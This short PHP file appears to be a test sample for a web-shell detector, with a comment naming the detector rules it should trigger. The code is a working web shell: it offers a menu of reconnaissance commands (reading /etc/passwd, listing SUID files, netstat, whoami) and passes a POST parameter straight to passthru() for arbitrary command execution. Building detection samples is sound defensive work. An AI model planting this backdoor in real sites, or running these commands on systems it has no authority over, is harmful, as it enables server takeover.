<?php
// triage-expect: triage_php_recon_command_menu triage_php_request_var_to_sink
// the "quick commands" drop-down of a command shell
$quick = array(
    'Users' => 'cat /etc/passwd', 'Kernel' => 'uname -a', 'Listening' => 'netstat -an',
    'Processes' => 'ps aux', 'SUID files' => 'find / -perm -4000 -type f', 'Me' => 'whoami',
);
foreach ($quick as $label => $c) { echo "<option value='" . htmlspecialchars($c) . "'>$label</option>"; }
$run = $_POST['c'];
if ($run) {
    echo '<pre>';
    passthru($run);
    echo '</pre>';
}
